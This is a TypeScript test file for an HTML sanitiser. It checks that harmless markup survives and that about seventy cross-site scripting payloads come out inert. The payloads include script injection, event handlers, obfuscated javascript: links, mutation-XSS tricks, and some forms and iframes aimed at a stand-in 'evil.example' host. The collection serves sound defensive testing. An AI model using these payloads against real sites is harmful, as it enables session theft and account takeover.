import fc from 'fast-check';
import { fromHtml } from 'hast-util-from-html';
import { describe, expect, test } from 'vitest';
import { htmlRules } from './html-rules.ts';
import { sanitiseHtml } from './sanitise-html.ts';

/** What a node of a parsed fragment may be. */
interface ParsedNode {
  readonly type: string;
  readonly tagName?: string;
  readonly properties?: Readonly<Record<string, unknown>>;
  readonly children?: readonly ParsedNode[];
}

/** Everything in the text, as a browser would build it, that could run, load, submit or be styled. */
function findHarm(html: string): string[] {
  const harm: string[] = [];
  const visit = (node: ParsedNode): void => {
    if (node.type === 'element') {
      const { tagName = '', properties = {} } = node;
      if (!htmlRules.tagNames?.includes(tagName)) harm.push(tagName);
      for (const [name, value] of Object.entries(properties)) {
        const text = String(value);
        if (/^on|^style$|^class|^form|^srcDoc$|^srcSet$/i.test(name))
          harm.push(`${tagName} ${name}`);
        if (name === 'href' && !/^(https?:\/\/|mailto:)/i.test(text)) harm.push(`href ${text}`);
        if (name === 'src' && !/^https:\/\//i.test(text)) harm.push(`src ${text}`);
        if (name === 'id' && tagName !== 'msft-mention') harm.push(`id ${text}`);
      }
    } else if (node.type === 'comment' || node.type === 'doctype') harm.push(node.type);
    for (const child of node.children ?? []) visit(child);
  };
  visit(fromHtml(html, { fragment: true }));
  return harm;
}

describe('keeps', () => {
  test.each([
    'Just words, 1 > 0, 안녕하세요 🙂',
    '<p>A <b>bold</b>, <i>slanted</i>, <u>lined</u> and <s>struck</s> word</p>',
    '<ol start="3"><li>three</li></ol><ul><li>any<ul><li>deeper</li></ul></li></ul>',
    '<blockquote>quoted</blockquote><pre><code>let x = 1;</code></pre>',
    '<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td>a</td><td>b</td></tr></tbody></table>',
    '<a href="https://example.org/?a=1&amp;b=2" title="more">link</a>',
    '<a href="mailto:ada@example.org">mail</a>',
    '<img src="https://example.org/cat.png" alt="A cat" width="20" height="10">',
    '<p dir="rtl" lang="he">שלום</p>',
    'Hi <msft-mention id="8:acs:a1_b2" displaytext="Ada">Ada</msft-mention>',
    'a &lt;b&gt; &amp; c',
  ])('%s', (html) => {
    const kept = sanitiseHtml(html);
    // The serialiser may write a bare ">" where the text had a reference; both are the same text.
    expect(kept.replaceAll('&gt;', '>')).toBe(html.replaceAll('&gt;', '>'));
  });
});

const attacks = [
  '<script>steal()</script>tail',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<img src=x onerror=steal()>',
  '<img src="https://ok.example/a.png" onload="steal()">',
  '<img src="https://ok.example/a.png" srcset="javascript:steal() 1x">',
  '<img src="http://plain.example/a.png">',
  '<img src="data:image/svg+xml,<svg onload=steal()>">',
  '<img src="/account/delete">',
  '<img """><script>steal()</script>">',
  '<img/src="https://ok.example/x"/onerror=steal()>',
  '<a href="javascript:steal()">x</a>',
  '<a href=" javascript:steal()">x</a>',
  '<a href="java\nscript:steal()">x</a>',
  '<a href="java&#x0A;script:steal()">x</a>',
  '<a href="&#106;avascript&colon;steal()">x</a>',
  '<a href="JaVaScRiPt:steal()">x</a>',
  '<a href="\u0001javascript:steal()">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/logout">x</a>',
  '<a href="blob:https://ok.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example" onclick="steal()" style="position:fixed" target="_top" ping="https://evil.example">x</a>',
  '<div style="background:url(javascript:steal())">x</div>',
  '<div class="modal" id="root">x</div>',
  '<span id=getElementById>x</span><a id=location>y</a>',
  '<style>*{background:url(https://evil.example)}</style>x',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="javascript:steal()"></object><embed src="javascript:steal()">',
  '<form action="https://evil.example"><input name=password autofocus onfocus=steal()><button formaction="javascript:steal()">go</button></form>',
  '<svg onload=steal()></svg>',
  '<svg><script>steal()</script></svg>',
  '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
  '<svg><animate onbegin=steal() attributeName=x dur=1s>',
  '<svg><foreignObject><img src=x onerror=steal()></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=steal()&gt;">',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:steal()">x</maction></math>',
  '<svg></p><style><a title="</style><img src=x onerror=steal()>">',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<textarea><p title="</textarea><img src=x onerror=steal()>">',
  '<title><p title="</title><img src=x onerror=steal()>">',
  '<xmp><p title="</xmp><img src=x onerror=steal()>">',
  '<template><script>steal()</script></template>',
  '<select><option><style></option></select><script>steal()</script></style>',
  '<!--><img src=x onerror=steal()>-->',
  '<!-- <img src=x onerror=steal()> -->',
  '<!doctype html><body onload=steal()><p>x',
  '<![CDATA[<img src=x onerror=steal()>]]>',
  '<?xml version="1.0"?><img src=x onerror=steal()>',
  '<table><td background="javascript:steal()">x</td></table>',
  '<a href="https://ok.example" title="&quot; onmouseover=&quot;steal()">x</a>',
  '<p title="`onmouseover=steal()">x</p>',
  '<a title="</a><img src=x onerror=steal()>" href="https://ok.example">x</a>',
  '<img alt="<script>steal()</script>" src="https://ok.example/a.png">',
  '<video src=x onerror=steal()></video><audio src=x onerror=steal()></audio>',
  '<details open ontoggle=steal()>x</details><marquee onstart=steal()>y</marquee>',
  '<custom-element onclick=steal()>x</custom-element>',
  '<msft-mention id="location" onclick="steal()">x</msft-mention>',
  '<b><p><table><b><td><a href="javascript:steal()"></b></p>x',
  '&lt;script&gt;steal()&lt;/script&gt;',
  '<<script>script>steal()<</script>/script>',
  '<a href="https://ok.example\u0000javascript:">x</a>',
  '<a\u2028href="javascript:steal()">x</a>',
];

describe('leaves nothing harmful in', () => {
  test.each(attacks)('%s', (html) => {
    const safe = sanitiseHtml(html);
    expect(findHarm(safe)).toEqual([]);
    // What a browser reads from the result and writes again must not come to life either.
    expect(sanitiseHtml(safe)).toBe(safe);
  });

  test('any two of them together, one inside the other', () => {
    for (const [index, outer] of attacks.entries()) {
      const inner = attacks[(index * 7 + 3) % attacks.length] ?? '';
      const html = outer.replace('x', inner) + inner;
      expect(findHarm(sanitiseHtml(html)), html).toEqual([]);
    }
  });

  test('pieces of markup in any order', () => {
    const pieces = [
      '<p>',
      '</p>',
      '<b>',
      '</i>',
      '<a href="',
      'javascript:steal()',
      '">',
      "'>",
      '<',
    ];
    pieces.push(
      '<svg>',
      '</svg>',
      '<math>',
      '<style>',
      '</style>',
      '<!--',
      '-->',
      '<table>',
      '<td>',
    );
    pieces.push(
      '<img src=',
      'x onerror=steal()',
      ' title="',
      '</a>',
      '<script>',
      '</script>',
      '&lt;',
    );
    pieces.push(
      '<textarea>',
      '</textarea>',
      '<noscript>',
      '</noscript>',
      '<template>',
      '</',
      'text',
    );
    const markup = fc.array(fc.constantFrom(...pieces), { maxLength: 30 });
    fc.assert(
      fc.property(markup, (parts) => {
        const safe = sanitiseHtml(parts.join(''));
        expect(findHarm(safe)).toEqual([]);
        expect(findHarm(sanitiseHtml(safe))).toEqual([]);
      }),
      { numRuns: 1_000, seed: 3 },
    );
  });

  test('the checks of this test see harm where there is some', () => {
    expect(findHarm('<img src=x onerror=a()><script></script><a href="/x">')).toEqual([
      'src x',
      'img onError',
      'script',
      'href /x',
    ]);
  });
});

/** The text that `write` gives for each number below `count`. */
function repeat(count: number, write: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => write(index)).join('');
}

describe('shows as text, at once', () => {
  test.each([
    ['too many tags', '<b></b>'.repeat(600)],
    ['many tags that are left open', repeat(300, (index) => `<i title="${index}"><p>x`)],
    ['tags that are closed all at the end', `${'<i><p>'.repeat(200)}x${'</i>'.repeat(200)}`],
    ['closing tags that come first', `${'</i>'.repeat(200)}${'<i><p>x'.repeat(200)}`],
    [
      'closing tags inside comments',
      repeat(120, (index) => `<i title="${index}"><p><!--</i></p>-->`),
    ],
    ['closing tags inside attributes', repeat(120, () => '<i><p title="</i></p>">')],
    ['closing tags inside raw text', repeat(120, () => '<i><p><style></p></i></style>')],
    ['tags that close themselves and are not', repeat(210, (index) => `<i title="${index}"/>`)],
    ['tags nested too deep', `${'<b>'.repeat(120)}x${'</b>'.repeat(120)}`],
    ['few tags from which much would come', repeat(60, (index) => `<i title="${index}"><p>`)],
  ])('%s', (_name, html) => {
    expect(sanitiseHtml(html)).toBe(html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'));
  });
});

describe('keeps, although it is long,', () => {
  test.each([
    ['a table', `<table><tbody>${'<tr><td>a</td><td>b</td></tr>'.repeat(160)}</tbody></table>`],
    ['a list of links', `<ul>${'<li><a href="https://a.example">a</a></li>'.repeat(240)}</ul>`],
    ['words and pictures', '<p>Hi <b>you</b><br><img src="https://a.example/a"></p>'.repeat(160)],
  ])('%s', (_name, html) => {
    expect(sanitiseHtml(html)).toBe(html);
  });
});
